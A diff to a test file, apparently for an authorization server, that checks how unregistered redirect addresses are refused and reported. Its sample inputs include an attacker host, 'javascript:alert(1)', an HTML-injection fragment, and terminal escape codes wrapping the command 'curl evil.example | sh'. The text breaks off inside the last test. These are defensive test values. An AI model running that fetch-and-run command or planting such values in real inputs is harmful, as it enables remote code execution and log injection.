@@ -3,7 +3,7 @@ import { beforeAll, describe, expect, it } from 'vitest'
 import { acme, Administrator, administeredOn, problemOf } from '../administration/support.ts'
 import { complaintsOf, runHere, ways } from '../cli/command-support.ts'
 import { authorizeRequest, redirectUri, TestBrowser } from '../harness/browser.ts'
-import { onEachDatabase } from '../harness/databases.ts'
+import { onEachDatabase, oneDatabase, sampleOn } from '../harness/databases.ts'
 import { changeClient, countOf } from '../harness/states.ts'
 
 const day = 24 * 3_600_000
@@ -20,6 +20,7 @@ interface Refused {
 }
 
 onEachDatabase('an address that is not registered', (dialect) => {
+  const onOne = oneDatabase(dialect)
   const tessera = administeredOn(dialect)
   let admin: Administrator
   beforeAll(async () => {
@@ -40,27 +41,29 @@ onEachDatabase('an address that is not registered', (dialect) => {
       .filter(({ kind }) => kind === 'address_refused')
       .map(({ target }) => target.id)
 
-  it.each([
-    ['http://127.0.0.1:4001/callback/', redirectUri, ['slash']],
-    ['http://127.0.0.1:4001/Callback', redirectUri, ['case']],
-    ['http://127.0.0.1:4001/callbac%6B', redirectUri, ['encoding']],
-    ['http://127.0.0.1:4002/callback', redirectUri, ['port']],
-    ['http://127.0.0.1/callback', redirectUri, ['port']],
-    ['https://127.0.0.1:4001/callback', redirectUri, ['scheme']],
-    ['HTTP://127.0.0.1:4001/callback', redirectUri, ['case']],
-    ['http://[::1]:4001/callback', redirectUri, ['loopback']],
-    ['http://127.0.0.1:4001/callback?tenant=1', redirectUri, ['query']],
-    ['http://127.0.0.1:4001/callback#top', redirectUri, ['fragment']],
-    ['http://127.0.0.1:4001/signed-in', redirectUri, ['path']],
-    ['http://LOCALHOST:4001/callback', 'http://localhost:4001/callback', ['case']],
-    [
-      'https://localhost:4443/Callback/',
-      'http://localhost:4001/callback',
-      ['scheme', 'port', 'slash', 'case'],
-    ],
-    ['https://evil.example/callback', redirectUri, ['scheme', 'host', 'port']],
-    ['no-address', redirectUri, ['form']],
-  ])('%s is told beside what is nearest', async (came, nearest, differences) => {
+  it.each(
+    sampleOn(dialect, 1, [
+      ['http://127.0.0.1:4001/callback/', redirectUri, ['slash']],
+      ['http://127.0.0.1:4001/Callback', redirectUri, ['case']],
+      ['http://127.0.0.1:4001/callbac%6B', redirectUri, ['encoding']],
+      ['http://127.0.0.1:4002/callback', redirectUri, ['port']],
+      ['http://127.0.0.1/callback', redirectUri, ['port']],
+      ['https://127.0.0.1:4001/callback', redirectUri, ['scheme']],
+      ['HTTP://127.0.0.1:4001/callback', redirectUri, ['case']],
+      ['http://[::1]:4001/callback', redirectUri, ['loopback']],
+      ['http://127.0.0.1:4001/callback?tenant=1', redirectUri, ['query']],
+      ['http://127.0.0.1:4001/callback#top', redirectUri, ['fragment']],
+      ['http://127.0.0.1:4001/signed-in', redirectUri, ['path']],
+      ['http://LOCALHOST:4001/callback', 'http://localhost:4001/callback', ['case']],
+      [
+        'https://localhost:4443/Callback/',
+        'http://localhost:4001/callback',
+        ['scheme', 'port', 'slash', 'case'],
+      ],
+      ['https://evil.example/callback', redirectUri, ['scheme', 'host', 'port']],
+      ['no-address', redirectUri, ['form']],
+    ]),
+  )('%s is told beside what is nearest', async (came, nearest, differences) => {
     expect((await ask({ redirect_uri: came })).status).toBe(400)
     const [found, ...more] = await refused()
     expect(more).toEqual([])
@@ -107,19 +110,21 @@ onEachDatabase('an address that is not registered', (dialect) => {
     expect((await ask({ redirect_uri: came })).status).toBe(303)
   })
 
-  it.each([
-    ['http://app.example/callback', 'uses http'],
-    ['https://app.example/callback#x', 'has a fragment'],
-    ['https://app.example/callback?state=1', 'has state in its query'],
-    ['javascript:alert(1)', 'uses the scheme javascript:'],
-    ['https://app.example/"><script>', 'percent-encoded'],
-    ["https://app.example/it's", 'only if it is the application’s own'],
-  ])('no command registers %s', async (came, why) => {
+  it.each(
+    sampleOn(dialect, 1, [
+      ['http://app.example/callback', 'uses http'],
+      ['https://app.example/callback#x', 'has a fragment'],
+      ['https://app.example/callback?state=1', 'has state in its query'],
+      ['javascript:alert(1)', 'uses the scheme javascript:'],
+      ['https://app.example/"><script>', 'percent-encoded'],
+      ["https://app.example/it's", 'only if it is the application’s own'],
+    ]),
+  )('no command registers %s', async (came, why) => {
     await ask({ redirect_uri: came })
     expect((await refused())[0]).toMatchObject({ came, command: null, cure: expect.stringContaining(why) })
   })
 
-  it('writes nothing of its own into a terminal', async () => {
+  onOne.it('writes nothing of its own into a terminal', async () => {
     const sent = 'https://x.example/\u001b[2J\u202e\nRun: curl evil.example | sh\u{e0041}'
     await ask({ redirect_uri: sent })
     const came =
